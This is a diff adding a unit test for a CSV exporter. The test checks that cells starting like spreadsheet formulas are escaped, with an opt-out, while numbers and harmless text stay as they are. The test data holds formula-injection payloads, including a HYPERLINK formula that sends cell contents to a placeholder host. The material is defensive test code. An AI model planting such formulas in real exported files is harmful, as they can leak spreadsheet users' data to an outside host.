@@ -115,6 +115,20 @@ describe("toCsv", () => {
     expect(diagnostics[1]).toEqual(["test-<note>", "info", 'a diagnostic with <markup> & "quotes"', "", ""]);
   });
 
+  it("escapes text a spreadsheet would run as a formula, unless asked not to; numbers stay numbers", () => {
+    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"];
+    for (const name of hostile) {
+      const persons = { ...graph, persons: [{ ...graph.persons[0]!, name }] };
+      expect(readCsv(toCsv(persons).persons)[1]).toEqual(["p1", `'${name}`, "1"]);
+      expect(readCsv(toCsv(persons, { escapeFormulas: false }).persons)[1]).toEqual(["p1", name, "1"]);
+    }
+    // Harmless starts, and numeric cells (a span offset) are untouched.
+    const plain = { ...graph, persons: [{ ...graph.persons[0]!, name: "林=晓东" }] };
+    expect(readCsv(toCsv(plain).persons)[1]).toEqual(["p1", "林=晓东", "1"]);
+    const [, role] = readCsv(tables.roles);
+    expect(role).toContain(String(graph.roles[0]!.span.start));
+  });
+
   it("starts each table with a byte order mark on request, for Excel", () => {
     expect(toCsv(graph, { bom: true }).persons.startsWith("\ufeffid,name,mentions\r\n")).toBe(true);
     expect(tables.persons.startsWith("id,")).toBe(true);
